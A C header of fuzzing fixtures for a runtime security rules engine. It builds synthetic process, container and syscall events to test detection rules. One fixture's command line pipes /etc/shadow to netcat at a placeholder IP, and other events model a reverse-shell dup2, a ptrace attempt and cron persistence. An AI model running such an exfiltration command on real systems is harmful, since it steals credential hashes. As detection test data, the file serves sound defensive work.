/* A few realistic events the rules fuzzers evaluate every loaded ruleset
 * against, so the compiled conditions and output formatting are exercised,
 * not only the loader. */
#ifndef PAL_FUZZ_RULES_EVENTS_H
#define PAL_FUZZ_RULES_EVENTS_H

#include "engine/engine.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/socket.h>

static const char *const fz_argv[] = {"bash", "-c", "cat /etc/shadow | nc 198.51.100.7 4444", NULL};
static const char *const fz_env[] = {"HOME=/root", "KUBERNETES_SERVICE_HOST=10.96.0.1",
				     "PAYLOAD=aGVsbG8=", NULL};
static const struct pal_proc fz_root = {.pid = 1,
					.comm = "systemd",
					.exe = "/sbin/init",
					.exepath = "/usr/lib/systemd/systemd",
					.cmdline = "systemd"};
static const struct pal_proc fz_parent = {.pid = 4100,
					  .ppid = 1,
					  .comm = "conmon",
					  .exepath = "/usr/bin/conmon",
					  .cmdline = "conmon -c x",
					  .start_ns = 1000,
					  .parent = &fz_root};
static const struct pal_proc fz_proc = {.pid = 4300,
					.ppid = 4100,
					.vpid = 1,
					.comm = "bash",
					.exe = "bash",
					.exepath = "/usr/bin/bash",
					.cmdline = "bash -c cat /etc/shadow | nc 198.51.100.7 4444",
					.argv = fz_argv,
					.cwd = "/dev/shm",
					.env = fz_env,
					.uid = 33,
					.euid = 33,
					.gid = 33,
					.egid = 33,
					.loginuid = 4294967295u,
					.cap_effective = 0x1fffffffffull,
					.tty = 34817,
					.start_ns = 2000,
					.exe_origin = PAL_EXE_ORIGIN_UPPER,
					.parent = &fz_parent};
static const struct pal_container fz_ct = {.id = "4f2c9a1b7d3e",
					   .name = "web",
					   .image = "docker.io/library/nginx:1.25",
					   .image_repository = "docker.io/library/nginx",
					   .image_tag = "1.25",
					   .runtime = "podman",
					   .pod_name = "web-1",
					   .pod_namespace = "prod",
					   .privileged = true};

static void fz_events(struct pal_event *ev, size_t *n)
{
	size_t k = 0;
	struct pal_event base = {.ts_ns = 1700000000000000000ull,
				 .proc = &fz_proc,
				 .container = &fz_ct,
				 .fd = -1,
				 .tid = 4300};
	ev[k] = base;
	ev[k].type = PAL_EVT_OPENAT;
	ev[k].res = 3;
	ev[k].path = "/etc/shadow";
	ev[k++].flags = O_RDONLY | O_CLOEXEC;
	ev[k] = base;
	ev[k].type = PAL_EVT_EXECVE;
	ev[k].exe_upper_layer = true;
	ev[k++].path = "/usr/bin/bash";
	ev[k] = base;
	ev[k].type = PAL_EVT_CONNECT;
	ev[k].fd = 5;
	ev[k].local.family = AF_INET;
	ev[k].local.port = 40000;
	ev[k].local.addr[0] = 10;
	ev[k].remote.family = AF_INET6;
	ev[k].remote.port = 4444;
	ev[k].remote.addr[15] = 1;
	ev[k].sock_domain = AF_INET6;
	ev[k++].sock_type = SOCK_STREAM;
	ev[k] = base;
	ev[k].type = PAL_EVT_DUP2;
	ev[k].fd = 5;
	ev[k].arg[0] = 5;
	ev[k].arg[1] = 1;
	ev[k].res = 1;
	ev[k].remote.family = AF_INET;
	ev[k].remote.addr[0] = 198;
	ev[k++].sock_domain = AF_INET;
	ev[k] = base;
	ev[k].type = PAL_EVT_PTRACE;
	ev[k].arg[0] = 16;
	ev[k++].res = -1;
	ev[k] = base;
	ev[k].type = PAL_EVT_RENAMEAT2;
	ev[k].path = "/tmp/x";
	ev[k++].path2 = "/etc/cron.d/x";
	*n = k;
}

static void fz_quiet(const struct eng_diag *d, void *ud)
{
	(void)d;
	(void)ud;
}

static void fz_on_match(const struct eng_match *m, void *ud)
{
	(void)ud;
	/* Touch everything a consumer would. */
	volatile size_t sink = 0;
	sink += m->output[0];
	sink += json_object_size(m->output_fields);
	(void)sink;
}

/* Loads text as one rules file and evaluates the events against it. */
static void fz_load_and_eval(const char *name, const char *text, size_t len)
{
	struct eng_load_opts o = {.diag = fz_quiet,
				  .has_clock_offset = true,
				  .passwd_path = "/dev/null",
				  .group_path = "/dev/null"};
	struct eng_loader *l = eng_loader_new(&o);
	eng_loader_add_buffer(l, name, text, len);
	struct eng_ruleset *rs = NULL;
	struct pal_err err;
	if (eng_loader_finish(l, &rs, &err) == 0) {
		struct pal_event ev[8];
		size_t n;
		fz_events(ev, &n);
		for (size_t i = 0; i < n; i++)
			eng_eval(rs, &ev[i], fz_on_match, NULL);
	}
	eng_ruleset_free(rs);
	eng_loader_free(l);
}

#endif
